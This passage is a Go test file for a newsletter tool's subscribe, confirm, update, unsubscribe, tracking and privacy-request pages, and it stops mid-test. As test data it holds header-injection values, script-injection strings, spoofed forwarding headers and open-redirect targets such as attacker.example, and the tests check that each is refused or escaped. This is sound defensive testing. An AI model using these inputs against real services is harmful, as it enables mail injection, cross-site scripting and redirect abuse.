package pages_test

import (
	"context"
	"fmt"
	"net/url"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/postbode/postbode/internal/rtoken"
	"github.com/postbode/postbode/optin"
	"github.com/postbode/postbode/optin/pages"
	"github.com/postbode/postbode/privacy"
)

// A visitor subscribes on the form of a double opt-in list, confirms from
// the mail, changes their details on the update page and unsubscribes;
// every step is recorded with IP, user agent and time, consent changes as
// consent records.
func TestSubscribeConfirmUpdateUnsubscribe(t *testing.T) {
	t.Parallel()
	e := newEnv(t, envOpt{})
	ctx := context.Background()
	list := e.list("news", "double")

	// The form: consent box present and not ticked.
	r := e.get("/s/news")
	if r.code != 200 || !strings.Contains(r.body, `<html lang="en">`) {
		t.Fatalf("form: %d\n%s", r.code, r.body)
	}
	box := regexp.MustCompile(`<input id="consent"[^>]*>`).FindString(r.body)
	if box == "" || strings.Contains(box, "checked") {
		t.Fatalf("consent box missing or pre-ticked: %q", box)
	}
	tok := csrf(t, r.body)

	// Without the box ticked nothing happens.
	r = e.post("/s/news", url.Values{"csrf": {tok}, "email": {"anna@example.org"}, "name": {"Anna"}})
	if r.code != 422 || e.scalar(`SELECT count(*) FROM contacts`).(int64) != 0 {
		t.Fatalf("without consent: %d", r.code)
	}
	r = e.post("/s/news", url.Values{"csrf": {tok}, "email": {"anna@example.org"}, "name": {"Anna"}, "consent": {"yes"}})
	if r.code != 200 || !strings.Contains(r.body, "check your inbox") {
		t.Fatalf("subscribe: %d\n%s", r.code, r.body)
	}
	e.srv.Wait() // the subscription is recorded in the background
	var cid int64
	if err := e.db.QueryRow(ctx, `SELECT id FROM contacts WHERE email = 'anna@example.org'`).Scan(&cid); err != nil {
		t.Fatal(err)
	}
	if s := e.subStatus(cid, list); s != "unconfirmed" {
		t.Fatalf("after form: %s", s)
	}
	ev := e.scalar(`SELECT evidence FROM consent_records WHERE contact_id = $1 AND action = 'opt-in'`, cid).(string)
	if !strings.HasPrefix(ev, "subscribe-form/en/") || !strings.Contains(ev, "I agree that Stichting Test sends me") {
		t.Fatalf("consent evidence: %q", ev)
	}

	// The confirmation mail arrives with the link.
	m := e.smtp.wait(t)
	if to, _ := m.Header.AddressList("To"); len(to) != 1 || to[0].Address != "anna@example.org" {
		t.Fatalf("mail to %q", m.Header.Get("To"))
	}
	link := regexp.MustCompile(`http://public\.test(/c/[A-Za-z0-9_\-.]+)\?lang=en`).FindStringSubmatch(textPart(t, m))
	if link == nil {
		t.Fatalf("no confirmation link in mail:\n%s", textPart(t, m))
	}
	// The text part has a link, not a button: it says so.
	if text := textPart(t, m); strings.Contains(text, "button") || !strings.Contains(text, "with the link below") {
		t.Errorf("the text part speaks of a button it does not have:\n%s", text)
	}
	// GET shows the button and changes nothing.
	ctok := e.getForm(link[1])
	if s := e.subStatus(cid, list); s != "unconfirmed" {
		t.Fatalf("GET confirmed: %s", s)
	}
	r = e.post(link[1], url.Values{"csrf": {ctok}})
	if r.code != 200 || e.subStatus(cid, list) != "confirmed" {
		t.Fatalf("confirm: %d %s", r.code, e.subStatus(cid, list))
	}
	if ip := e.scalar(`SELECT host(ip) FROM consent_records WHERE contact_id = $1 AND action = 'confirm'`, cid); ip != "127.0.0.1" {
		t.Fatalf("confirm ip %v", ip)
	}
	// Confirming again is fine.
	if r := e.post(link[1], url.Values{"csrf": {e.getForm(link[1])}}); r.code != 200 {
		t.Fatalf("second confirm: %d", r.code)
	}

	// Update your details from an update mailing.
	camp := e.campaign("update", "<p>x</p>", []int64{list}, cid)
	up := e.mint(rtoken.Update, cid, camp)
	r = e.get(up)
	if r.code != 200 || !strings.Contains(r.body, "Anna") || !strings.Contains(r.body, "answer=change") {
		t.Fatalf("update page: %d\n%s", r.code, r.body)
	}
	ftok := e.getForm(up + "?answer=change")
	r = e.post(up, url.Values{"csrf": {ftok}, "answer": {"change"}, "name": {"Anna de Vries"}, "attr.city": {"Utrecht"}})
	if r.code != 200 {
		t.Fatalf("change: %d\n%s", r.code, r.body)
	}
	if n := e.scalar(`SELECT name FROM contacts WHERE id = $1`, cid); n != "Anna de Vries" {
		t.Fatalf("name %v", n)
	}
	var changes []optin.FieldChange
	var ip string
	var at time.Time
	if err := e.db.QueryRow(ctx, `SELECT changes, host(ip), created_at FROM change_requests WHERE contact_id = $1 AND status = 'applied'`, cid).Scan(&changes, &ip, &at); err != nil {
		t.Fatal(err)
	}
	want := []optin.FieldChange{{Field: "name", Old: "Anna", New: "Anna de Vries"}, {Field: "attributes.city", Old: "", New: "Utrecht"}}
	if len(changes) != 2 || changes[0] != want[0] || changes[1] != want[1] || ip != "127.0.0.1" || time.Since(at) > time.Minute {
		t.Fatalf("change record: %+v %s %v", changes, ip, at)
	}
	if a := e.scalar(`SELECT answer FROM update_answers WHERE campaign_id = $1 AND contact_id = $2`, camp, cid); a != "changed" {
		t.Fatalf("answer %v", a)
	}

	// Unsubscribe: GET shows the choice, POST leaves; the last list makes a floater.
	un := e.mint(rtoken.Unsubscribe, cid, camp)
	utok := e.getForm(un)
	if e.subStatus(cid, list) != "confirmed" {
		t.Fatal("GET unsubscribed")
	}
	r = e.post(un, url.Values{"csrf": {utok}, "scope": {"campaign"}})
	if r.code != 200 || e.subStatus(cid, list) != "unsubscribed" {
		t.Fatalf("unsubscribe: %d %s", r.code, e.subStatus(cid, list))
	}
	if e.scalar(`SELECT one_star_since IS NOT NULL FROM contacts WHERE id = $1`, cid) != true {
		t.Fatal("not a floater after leaving the last list")
	}
	if e.scalar(`SELECT count(*) FROM consent_records WHERE contact_id = $1 AND action = 'opt-out' AND host(ip) = '127.0.0.1'`, cid).(int64) != 1 {
		t.Fatal("no opt-out consent record")
	}
	// The old confirmation link never subscribes again.
	if r := e.post(link[1], url.Values{"csrf": {e.getForm(link[1])}}); r.code != 404 || e.subStatus(cid, list) != "unsubscribed" {
		t.Fatalf("old confirmation link after unsubscribing: %d %s", r.code, e.subStatus(cid, list))
	}

	// Every action in the log, with IP, user agent and time.
	e.flush()
	rows, err := e.db.Query(ctx, `SELECT action FROM recipient_actions WHERE contact_id = $1 AND host(ip) = '127.0.0.1'
		AND user_agent = 'pages-test/1.0' AND created_at > now() - interval '1 minute' ORDER BY id`, cid)
	if err != nil {
		t.Fatal(err)
	}
	var acts []string
	for rows.Next() {
		var a string
		rows.Scan(&a)
		acts = append(acts, a)
	}
	got := strings.Join(acts, ",")
	for _, w := range []string{"subscribe", "confirm", "answer-change", "unsubscribe"} {
		if !strings.Contains(got, w) {
			t.Errorf("action %s not logged; got %s", w, got)
		}
	}
}

// A second subscribe of a known address looks the same and sends no
// second mail within the throttle window; a blocklisted address gets the
// same page and nothing happens.
func TestSubscribeRevealsNothing(t *testing.T) {
	t.Parallel()
	e := newEnv(t, envOpt{})
	e.list("news", "double")
	if err := e.cs.BlockAddress(context.Background(), "blocked@example.org", "manual", ""); err != nil {
		t.Fatal(err)
	}
	send := func(email string) string {
		tok := e.getForm("/s/news")
		r := e.post("/s/news", url.Values{"csrf": {tok}, "email": {email}, "consent": {"yes"}})
		if r.code != 200 {
			t.Fatalf("%s: %d", email, r.code)
		}
		return r.body
	}
	a := send("new@example.org")
	e.srv.Wait()
	e.smtp.wait(t)
	b := send("new@example.org")
	c := send("blocked@example.org")
	if a != b || a != c {
		t.Fatal("pages differ between a new, a known and a blocklisted address")
	}
	time.Sleep(300 * time.Millisecond)
	e.srv.Wait()
	if n := e.smtp.count(); n != 1 {
		t.Fatalf("%d mails, want 1", n)
	}
	if e.scalar(`SELECT count(*) FROM contacts WHERE email = 'blocked@example.org'`).(int64) != 0 {
		t.Fatal("blocklisted address became a contact")
	}
}

// The subscribe form answers before anything looks at the address: with
// the contacts and blocklist tables locked, a new, a known and a blocklisted
// address all get their page at once; the work is done in the background
// once the lock is gone (the blocklisted address stays out).
func TestSubscribeAnswersBeforeLookingUpTheAddress(t *testing.T) {
	t.Parallel()
	e := newEnv(t, envOpt{})
	list := e.list("news", "single")
	known := e.contact("known@example.org", "Known", nil)
	if err := e.cs.BlockAddress(context.Background(), "blocked@example.org", "manual", ""); err != nil {
		t.Fatal(err)
	}
	forms := map[string]string{}
	for _, a := range []string{"new@example.org", "known@example.org", "blocked@example.org"} {
		forms[a] = e.getForm("/s/news")
	}
	tx, err := e.db.Begin(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	defer tx.Rollback(context.Background())
	if _, err := tx.Exec(context.Background(), `LOCK TABLE contacts, blocklist, subscriptions IN ACCESS EXCLUSIVE MODE`); err != nil {
		t.Fatal(err)
	}
	c := e.client
	c.Timeout = 5 * time.Second // a handler waiting for the lock fails the test
	var bodies []string
	for a, tok := range forms {
		r := e.post("/s/news", url.Values{"csrf": {tok}, "email": {a}, "consent": {"yes"}})
		if r.code != 200 {
			t.Fatalf("%s: %d while the tables are locked", a, r.code)
		}
		bodies = append(bodies, r.body)
	}
	if bodies[0] != bodies[1] || bodies[0] != bodies[2] {
		t.Error("pages differ between a new, a known and a blocklisted address")
	}
	tx.Rollback(context.Background())
	e.srv.Wait()
	if id := e.scalar(`SELECT id FROM contacts WHERE email = 'new@example.org'`).(int64); e.subStatus(id, list) != "confirmed" {
		t.Error("new address not subscribed in the background")
	}
	if e.subStatus(known, list) != "confirmed" {
		t.Error("known address not subscribed in the background")
	}
	if e.scalar(`SELECT count(*) FROM contacts WHERE email = 'blocked@example.org'`).(int64) != 0 {
		t.Error("blocklisted address became a contact")
	}
}

func TestSingleOptInSubscribesAtOnce(t *testing.T) {
	t.Parallel()
	e := newEnv(t, envOpt{})
	list := e.list("open", "single")
	tok := e.getForm("/s/open")
	r := e.post("/s/open", url.Values{"csrf": {tok}, "email": {"Piet@Example.org"}, "consent": {"yes"}})
	if r.code != 200 || !strings.Contains(r.body, "You are subscribed") {
		t.Fatalf("%d\n%s", r.code, r.body)
	}
	e.srv.Wait()
	cid := e.scalar(`SELECT id FROM contacts WHERE lower(email) = 'piet@example.org'`).(int64)
	if e.subStatus(cid, list) != "confirmed" {
		t.Fatal("single opt-in not confirmed")
	}
	if e.smtp.count() != 0 {
		t.Fatal("mail sent for single opt-in")
	}
}

// RFC 8058: a POST with List-Unsubscribe=One-Click unsubscribes at once,
// without cookie or form token; a GET never does.
func TestOneClick(t *testing.T) {
	t.Parallel()
	e := newEnv(t, envOpt{})
	l1, l2 := e.list("a", "single"), e.list("b", "single")
	cid := e.contact("jan@example.org", "Jan", nil, l1, l2)
	camp := e.campaign("regular", "<p>x</p>", []int64{l1}, cid)
	path := e.mint(rtoken.Unsubscribe, cid, camp)
	for i := 0; i < 3; i++ {
		if r := e.do(e.newClient(), "GET", path, nil, nil); r.code != 200 {
			t.Fatalf("GET %d", r.code)
		}
	}
	if e.subStatus(cid, l1) != "confirmed" {
		t.Fatal("GET changed state")
	}
	for i := 0; i < 2; i++ {
		r := e.do(e.newClient(), "POST", path, strings.NewReader("List-Unsubscribe=One-Click"),
			map[string]string{"Content-Type": "application/x-www-form-urlencoded"})
		if r.code != 200 {
			t.Fatalf("one-click: %d\n%s", r.code, r.body)
		}
	}
	if e.subStatus(cid, l1) != "unsubscribed" || e.subStatus(cid, l2) != "confirmed" {
		t.Fatalf("one-click left %s/%s, want only the campaign's list", e.subStatus(cid, l1), e.subStatus(cid, l2))
	}
	if n := e.scalar(`SELECT count(*) FROM consent_records WHERE contact_id = $1 AND action = 'opt-out' AND source = 'one-click'`, cid).(int64); n != 1 {
		t.Fatalf("%d one-click consent records", n)
	}
	// multipart/form-data works too (some providers send it).
	cid2 := e.contact("kim@example.org", "Kim", nil, l1)
	body := "--XX\r\nContent-Disposition: form-data; name=\"List-Unsubscribe\"\r\n\r\nOne-Click\r\n--XX--\r\n"
	r := e.do(e.newClient(), "POST", e.mint(rtoken.Unsubscribe, cid2, camp), strings.NewReader(body),
		map[string]string{"Content-Type": "multipart/form-data; boundary=XX"})
	if r.code != 200 || e.subStatus(cid2, l1) != "unsubscribed" {
		t.Fatalf("multipart one-click: %d %s", r.code, e.subStatus(cid2, l1))
	}
	// Without a content type the body is still read (RFC 8058 senders vary).
	cidNT := e.contact("nt@example.org", "Nt", nil, l1)
	r = e.do(e.newClient(), "POST", e.mint(rtoken.Unsubscribe, cidNT, camp), strings.NewReader("List-Unsubscribe=One-Click"), nil)
	if r.code != 200 || e.subStatus(cidNT, l1) != "unsubscribed" {
		t.Fatalf("one-click without content type: %d %s", r.code, e.subStatus(cidNT, l1))
	}
	// A POST without the one-click body and without a form token does nothing.
	cid3 := e.contact("lot@example.org", "Lot", nil, l1)
	r = e.do(e.newClient(), "POST", e.mint(rtoken.Unsubscribe, cid3, camp), strings.NewReader("scope=all"),
		map[string]string{"Content-Type": "application/x-www-form-urlencoded"})
	if r.code != 403 || e.subStatus(cid3, l1) != "confirmed" {
		t.Fatalf("POST without one-click or CSRF: %d %s", r.code, e.subStatus(cid3, l1))
	}
}

// Tampered, wrong-purpose, expired and erased-contact tokens all get the
// same neutral page.
func TestNeutralPage(t *testing.T) {
	t.Parallel()
	e := newEnv(t, envOpt{})
	l := e.list("n", "single")
	cid := e.contact("x@example.org", "X", nil, l)
	gone := e.contact("gone@example.org", "Gone", nil, l)
	e.db.Exec(context.Background(), `DELETE FROM contacts WHERE id = $1`, gone)
	good := e.keys.Mint(rtoken.Claims{Purpose: rtoken.Update, ContactID: cid})
	tampered := []byte(good)
	tampered[3] ^= 1
	other := rtoken.NewKeys("another-key-another-key-another-key!!").Mint(rtoken.Claims{Purpose: rtoken.Update, ContactID: cid})
	expired := e.keys.Mint(rtoken.Claims{Purpose: rtoken.Confirm, ContactID: cid, CampaignID: l, Expires: time.Now().Add(-time.Hour)})
	paths := []string{
		"/p/" + string(tampered), "/p/" + other, "/p/garbage", "/p/" + e.keys.Mint(rtoken.Claims{Purpose: rtoken.Unsubscribe, ContactID: cid}),
		"/c/" + expired, e.mint(rtoken.Update, gone, 0), e.mint(rtoken.Unsubscribe, gone, 0), "/nothing-here",
	}
	var first string
	for i, p := range paths {
		r := e.get(p)
		if r.code != 404 {
			t.Errorf("%s: %d", p, r.code)
		}
		if i == 0 {
			first = r.body
		} else if r.body != first {
			t.Errorf("%s: body differs from the neutral page", p)
		}
	}
	if !strings.Contains(first, "This link is not valid") {
		t.Fatalf("neutral page:\n%s", first)
	}
	if r := e.get("/p/" + good); r.code != 200 {
		t.Fatalf("good token: %d", r.code)
	}
}

func TestCSRF(t *testing.T) {
	t.Parallel()
	e := newEnv(t, envOpt{})
	l := e.list("n", "single")
	cid := e.contact("x@example.org", "X", nil, l)
	up := e.mint(rtoken.Update, cid, 0)
	okCount := func() int64 {
		return e.scalar(`SELECT count(*) FROM consent_records WHERE contact_id = $1 AND action = 'reconfirm'`, cid).(int64)
	}
	// Missing token.
	if r := e.post(up, url.Values{"answer": {"ok"}}); r.code != 403 {
		t.Fatalf("missing csrf: %d", r.code)
	}
	tok := e.getForm(up + "?answer=ok")
	// Right token, other client (no cookie).
	r := e.do(e.newClient(), "POST", up, strings.NewReader(url.Values{"csrf": {tok}, "answer": {"ok"}}.Encode()),
		map[string]string{"Content-Type": "application/x-www-form-urlencoded"})
	if r.code != 403 {
		t.Fatalf("without cookie: %d", r.code)
	}
	// Token of another page.
	other := e.mint(rtoken.Update, e.contact("y@example.org", "Y", nil, l), 0)
	if r := e.post(other, url.Values{"csrf": {tok}, "answer": {"ok"}}); r.code != 403 {
		t.Fatalf("token of another page: %d", r.code)
	}
	if okCount() != 0 {
		t.Fatal("state changed without a valid token")
	}
	// Valid once, replay refused.
	if r := e.post(up, url.Values{"csrf": {tok}, "answer": {"ok"}}); r.code != 200 {
		t.Fatalf("valid: %d\n%s", r.code, r.body)
	}
	if r := e.post(up, url.Values{"csrf": {tok}, "answer": {"ok"}}); r.code != 403 {
		t.Fatalf("replay: %d", r.code)
	}
	if okCount() != 1 {
		t.Fatalf("%d reconfirm records, want 1", okCount())
	}
}

func TestHugePost(t *testing.T) {
	t.Parallel()
	e := newEnv(t, envOpt{})
	l := e.list("n", "single")
	cid := e.contact("x@example.org", "X", nil, l)
	up := e.mint(rtoken.Update, cid, 0)
	tok := e.getForm(up + "?answer=change")
	big := strings.Repeat("A", 1<<20)
	r := e.post(up, url.Values{"csrf": {tok}, "answer": {"change"}, "name": {big}})
	if r.code != 413 {
		t.Fatalf("huge post: %d", r.code)
	}
	if e.scalar(`SELECT name FROM contacts WHERE id = $1`, cid) != "X" {
		t.Fatal("huge post changed the name")
	}
}

// Header injection and control characters in edited fields are refused;
// a script in a name is stored as text and escaped on every page.
func TestEditedFields(t *testing.T) {
	t.Parallel()
	e := newEnv(t, envOpt{})
	l := e.list("n", "single")
	cid := e.contact("x@example.org", "X", nil, l)
	up := e.mint(rtoken.Update, cid, 0)
	for _, bad := range []url.Values{
		{"name": {"Anna\r\nBcc: victim@example.org"}},
		{"name": {"Anna\x00"}},
		{"name": {"Anna"}, "attr.city": {"Utrecht\nX-Evil: 1"}},
		{"name": {strings.Repeat("n", 201)}},
	} {
		bad.Set("csrf", e.getForm(up+"?answer=change"))
		bad.Set("answer", "change")
		r := e.post(up, bad)
		if r.code != 422 || !strings.Contains(r.body, `role="alert"`) {
			t.Fatalf("%q: %d\n%s", bad, r.code, r.body)
		}
	}
	if e.scalar(`SELECT name FROM contacts WHERE id = $1`, cid) != "X" || e.scalar(`SELECT count(*) FROM change_requests`).(int64) != 0 {
		t.Fatal("bad input changed the contact")
	}
	script := `<script>alert(1)</script>`
	r := e.post(up, url.Values{"csrf": {e.getForm(up + "?answer=change")}, "answer": {"change"}, "name": {script}})
	if r.code != 200 {
		t.Fatalf("script name: %d", r.code)
	}
	page := e.get(up).body
	if strings.Contains(page, script) || !strings.Contains(page, "&lt;script&gt;alert(1)&lt;/script&gt;") {
		t.Fatalf("name not escaped:\n%s", page)
	}
	// A script in the subscribe form is escaped when the form comes back.
	e.list("s", "single")
	r = e.post("/s/s", url.Values{"csrf": {e.getForm("/s/s")}, "email": {`"><script>x</script>`}, "consent": {"yes"}})
	if r.code != 422 || strings.Contains(r.body, "<script>x") {
		t.Fatalf("subscribe echo: %d\n%s", r.code, r.body)
	}
}

func TestTrustedProxy(t *testing.T) {
	t.Parallel()
	cases := []struct {
		name    string
		trusted []string
		xff     string
		want    string
	}{
		{"untrusted peer: header ignored", nil, "203.0.113.9", "127.0.0.1"},
		{"trusted peer", []string{"127.0.0.1/32"}, "203.0.113.9", "203.0.113.9"},
		{"spoofed left part skipped", []string{"127.0.0.1/32"}, "1.2.3.4, 203.0.113.9", "203.0.113.9"},
		{"chain of trusted proxies", []string{"127.0.0.1/32", "10.0.0.0/8"}, "198.51.100.7, 10.1.2.3", "198.51.100.7"},
		{"garbage hop", []string{"127.0.0.1/32"}, "not-an-ip", "127.0.0.1"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			e := newEnv(t, envOpt{trusted: c.trusted})
			l := e.list("n", "single")
			cid := e.contact("x@example.org", "X", nil, l)
			r := e.do(e.newClient(), "POST", e.mint(rtoken.Unsubscribe, cid, 0), strings.NewReader("List-Unsubscribe=One-Click"),
				map[string]string{"Content-Type": "application/x-www-form-urlencoded", "X-Forwarded-For": c.xff})
			if r.code != 200 {
				t.Fatal(r.code)
			}
			if ip := e.scalar(`SELECT host(ip) FROM consent_records WHERE contact_id = $1 AND action = 'opt-out'`, cid); ip != c.want {
				t.Fatalf("recorded %v, want %s", ip, c.want)
			}
		})
	}
}

func TestLanguageAndHeaders(t *testing.T) {
	t.Parallel()
	e := newEnv(t, envOpt{})
	l := e.list("n", "single")
	cid := e.contact("x@example.org", "X", nil, l)
	up := e.mint(rtoken.Update, cid, 0)
	r := e.do(e.client, "GET", up, nil, map[string]string{"Accept-Language": "de-DE, nl;q=0.8, en;q=0.5"})
	if !strings.Contains(r.body, `<html lang="nl">`) || !strings.Contains(r.body, "Kloppen uw gegevens nog?") {
		t.Fatalf("Dutch page expected:\n%s", r.body)
	}
	r = e.do(e.client, "GET", up+"?lang=en", nil, map[string]string{"Accept-Language": "nl"})
	if !strings.Contains(r.body, `<html lang="en">`) || !strings.Contains(r.body, "Are your details still correct?") {
		t.Fatal("?lang=en did not override")
	}
	for k, want := range map[string]string{
		"X-Frame-Options": "DENY", "Referrer-Policy": "no-referrer", "X-Content-Type-Options": "nosniff",
	} {
		if got := r.hdr.Get(k); got != want {
			t.Errorf("%s = %q", k, got)
		}
	}
	csp := r.hdr.Get("Content-Security-Policy")
	if !strings.Contains(csp, "default-src 'none'") || strings.Contains(csp, "script-src") || strings.Contains(csp, "unsafe-inline") {
		t.Errorf("CSP %q", csp)
	}
	if strings.Contains(r.body, "<script") || strings.Contains(r.body, " style=") {
		t.Error("page has inline script or style")
	}
	if css := e.get("/static/site.css"); css.code != 200 || !strings.Contains(css.body, "#1d4ed8") {
		t.Errorf("stylesheet: %d", css.code)
	}
}

func TestUpdateAnswers(t *testing.T) {
	t.Parallel()
	e := newEnv(t, envOpt{})
	l1, l2 := e.list("a", "single"), e.list("b", "single")
	ok := e.contact("ok@example.org", "Ok", nil, l1, l2)
	rm := e.contact("rm@example.org", "Rm", nil, l1, l2)
	camp := e.campaign("update", "<p>x</p>", []int64{l1}, ok, rm)

	up := e.mint(rtoken.Update, ok, camp)
	if r := e.post(up, url.Values{"csrf": {e.getForm(up + "?answer=ok")}, "answer": {"ok"}}); r.code != 200 {
		t.Fatalf("ok: %d", r.code)
	}
	if n := e.scalar(`SELECT count(*) FROM consent_records WHERE contact_id = $1 AND action = 'reconfirm' AND source = 'update-page' AND host(ip) = '127.0.0.1'`, ok).(int64); n != 2 {
		t.Fatalf("%d reconfirm records, want one per list", n)
	}
	if e.scalar(`SELECT last_engaged_at IS NOT NULL FROM contacts WHERE id = $1`, ok) != true {
		t.Fatal("no engagement")
	}

	up = e.mint(rtoken.Update, rm, camp)
	if r := e.get(up + "?answer=remove"); r.code != 200 || e.subStatus(rm, l2) != "confirmed" {
		t.Fatal("GET ?answer=remove changed state")
	}
	if r := e.post(up, url.Values{"csrf": {e.getForm(up + "?answer=remove")}, "answer": {"remove"}}); r.code != 200 {
		t.Fatalf("remove: %d", r.code)
	}
	if e.subStatus(rm, l1) != "unsubscribed" || e.subStatus(rm, l2) != "unsubscribed" {
		t.Fatal("remove did not leave every list")
	}
	if e.scalar(`SELECT one_star_since IS NOT NULL FROM contacts WHERE id = $1`, rm) != true {
		t.Fatal("removed contact is not one-star")
	}
	got := e.scalar(`SELECT string_agg(answer, ',' ORDER BY answer) FROM update_answers WHERE campaign_id = $1`, camp)
	if got != "ok,remove" {
		t.Fatalf("answers %v", got)
	}
}

func TestPendingChanges(t *testing.T) {
	t.Parallel()
	e := newEnv(t, envOpt{approve: true})
	l := e.list("a", "single")
	cid := e.contact("x@example.org", "Old", map[string]any{"city": "Delft"}, l)
	up := e.mint(rtoken.Update, cid, 0)
	r := e.post(up, url.Values{"csrf": {e.getForm(up + "?answer=change")}, "answer": {"change"}, "name": {"New"}, "attr.city": {"Delft"}})
	if r.code != 200 || !strings.Contains(r.body, "We will check your changes") {
		t.Fatalf("%d\n%s", r.code, r.body)
	}
	if e.scalar(`SELECT name FROM contacts WHERE id = $1`, cid) != "Old" {
		t.Fatal("pending change applied")
	}
	crs, err := e.store.ChangeRequests(context.Background(), optin.ChangePending, 0, 10)
	if err != nil || len(crs) != 1 || len(crs[0].Changes) != 1 || crs[0].Changes[0] != (optin.FieldChange{Field: "name", Old: "Old", New: "New"}) {
		t.Fatalf("pending: %+v %v", crs, err)
	}
	if _, err := e.store.DecideChange(context.Background(), crs[0].ID, true, "token:1"); err != nil {
		t.Fatal(err)
	}
	if e.scalar(`SELECT name FROM contacts WHERE id = $1`, cid) != "New" {
		t.Fatal("approved change not applied")
	}
	if _, err := e.store.DecideChange(context.Background(), crs[0].ID, false, "token:1"); err != optin.ErrChangeDecided {
		t.Fatalf("second decision: %v", err)
	}
}

func TestOpenAndClick(t *testing.T) {
	t.Parallel()
	e := newEnv(t, envOpt{})
	l := e.list("a", "single")
	cid := e.contact("x@example.org", "X", nil, l)
	camp := e.campaign("regular", `<p><a href="https://example.org/a?x=1&amp;y=2">A</a> <a href='https://example.org/b'>B</a>
		<a href=https://example.org/c>C</a> <a href="https://example.org/p/{{.Contact.ID}}?c={{attr "city"}}">P</a>
		<a href="{{.Contact.Attributes.site}}">evil</a></p>`, []int64{l}, cid)
	o := e.mint(rtoken.Open, cid, camp)
	for i := 0; i < 2; i++ {
		r := e.get(o)
		if r.code != 200 || r.hdr.Get("Content-Type") != "image/gif" || !strings.HasPrefix(r.body, "GIF89a") {
			t.Fatalf("pixel: %d %s", r.code, r.hdr.Get("Content-Type"))
		}
	}
	if e.scalar(`SELECT opened FROM campaign_stats WHERE campaign_id = $1`, camp).(int64) != 1 ||
		e.scalar(`SELECT opened_at IS NOT NULL FROM deliveries WHERE campaign_id = $1`, camp) != true {
		t.Fatal("open not recorded once")
	}
	if r := e.get("/o/garbage"); r.code != 200 || r.hdr.Get("Content-Type") != "image/gif" {
		t.Fatal("bad pixel token must still get a GIF")
	}
	click := e.mint(rtoken.Click, cid, camp)
	r := e.get(click + "?u=" + url.QueryEscape("https://example.org/a?x=1&y=2"))
	if r.code != 302 || r.hdr.Get("Location") != "https://example.org/a?x=1&y=2" {
		t.Fatalf("click: %d %q", r.code, r.hdr.Get("Location"))
	}
	e.get(click + "?u=" + url.QueryEscape("https://example.org/b"))
	if e.scalar(`SELECT clicked FROM campaign_stats WHERE campaign_id = $1`, camp).(int64) != 1 {
		t.Fatal("click not counted once")
	}
	for _, good := range []string{"https://example.org/c", "https://example.org/p/42?c=Utrecht"} {
		if r := e.get(click + "?u=" + url.QueryEscape(good)); r.code != 302 || r.hdr.Get("Location") != good {
			t.Errorf("redirect to %s: %d", good, r.code)
		}
	}
	for _, bad := range []string{"https://evil.example/", "javascript:alert(1)", "https://example.org/a", "https://example.org/p/42?c=x\"><script>",
		"https://example.org.evil.example/p/1?c=x", "https://attacker.example/"} {
		if r := e.get(click + "?u=" + url.QueryEscape(bad)); r.code != 404 || r.hdr.Get("Location") != "" {
			t.Errorf("redirect to %s: %d", bad, r.code)
		}
	}
}

func TestPrivacyPages(t *testing.T) {
	t.Parallel()
	e := newEnv(t, envOpt{})
	l := e.list("a", "single")
	cid := e.contact("x@example.org", "X", nil, l)
	r := e.post("/privacy", url.Values{"csrf": {e.getForm("/privacy")}, "email": {"unknown@example.org"}, "kind": {"erasure"}})
	if r.code != 200 || !strings.Contains(r.body, "If we hold data on this address") {
		t.Fatalf("request: %d\n%s", r.code, r.body)
	}
	q := e.mint(rtoken.Verify, cid, 2)
	qtok := e.getForm(q)
	if r := e.get(q); !strings.Contains(r.body, "Erasure of your data") {
		t.Errorf("the confirmation page does not name the request:\n%s", r.body)
	}
	// A rectification's text is shown (escaped) before it is confirmed:
	// whoever typed it on the public form need not be the address's owner.
	if r := e.get(e.mint(rtoken.Verify, cid, 3)); !strings.Contains(r.body, "My name is &lt;b&gt;Zoë&lt;/b&gt;") {
		t.Errorf("the confirmation page does not quote the rectification text:\n%s", r.body)
	}
	e.srv.Wait()
	if len(e.priv.calls()) != 1 {
		t.Fatal("GET /q acted")
	}
	if r := e.post(q, url.Values{"csrf": {qtok}}); r.code != 200 || !strings.Contains(r.body, "Erasure of your data") {
		t.Fatalf("confirm: %d\n%s", r.code, r.body)
	}
	if r := e.post("/q/garbage", url.Values{"csrf": {e.getForm(q)}}); r.code != 404 && r.code != 403 {
		t.Fatalf("bad verify token: %d", r.code)
	}
	rp := e.mint(rtoken.Privacy, cid, 0)
	if r := e.post(rp, url.Values{"csrf": {e.getForm(rp)}, "kind": {"access"}}); r.code != 200 {
		t.Fatalf("contact request: %d", r.code)
	}
	e.srv.Wait()
	calls := strings.Join(e.priv.calls(), "|")
	if calls != "email unknown@example.org erasure 127.0.0.1 en|confirm erasure 127.0.0.1|contact access 127.0.0.1" {
		t.Fatalf("calls %s", calls)
	}

	off := newEnv(t, envOpt{noPrivacy: true})
	if r := off.get("/privacy"); r.code != 503 {
		t.Fatalf("not wired: %d", r.code)
	}
}

// TestPrivacyLinkTakesEveryRight: the privacy link in a mail (/r/TOKEN)
// takes all five requests — access, erasure, rectification (with what
// should be corrected), restriction and objection — each recorded once for
// the contact of the link, with a due date and in the page's language; the
// page itself (a GET) records nothing, and a missing, too long or
// unstorable correction text is refused with an error naming the field.
func TestPrivacyLinkTakesEveryRight(t *testing.T) {
	t.Parallel()
	e := newEnv(t, envOpt{privacy: func(e *env) pages.PrivacyRequests {
		return privacy.New(privacy.Options{DB: e.db, Contacts: e.cs, Tokens: e.keys, BaseURL: "http://public.test", DefaultLang: "en"})
	}})
	l := e.list("news", "single")
	cid := e.contact("rita@example.org", "Rita", nil, l)
	other := e.contact("otto@example.org", "Otto", nil, l)
	path := e.mint(rtoken.Privacy, cid, 0) + "?lang=nl"
	requests := func() int64 { return e.scalar(`SELECT count(*) FROM privacy_requests`).(int64) }

	page := e.get(path)
	for _, want := range []string{`value="access"`, `value="erasure"`, `value="rectification"`, `value="restriction"`, `value="objection"`, `name="details"`} {
		if !strings.Contains(page.body, want) {
			t.Errorf("privacy link page lacks %s:\n%s", want, page.body)
		}
	}
	if n := requests(); page.code != 200 || n != 0 {
		t.Fatalf("GET: %d, %d requests recorded", page.code, n)
	}

	for name, details := range map[string]string{"missing": "  ", "too long": strings.Repeat("x", privacy.MaxRequestDetails+1), "NUL": "my name\x00"} {
		r := e.post(path, url.Values{"csrf": {e.getForm(path)}, "kind": {"rectification"}, "details": {details}})
		if r.code != 422 || !strings.Contains(r.body, "Wat moet er worden gecorrigeerd: beschrijf het") || !strings.Contains(r.body, `aria-invalid="true"`) {
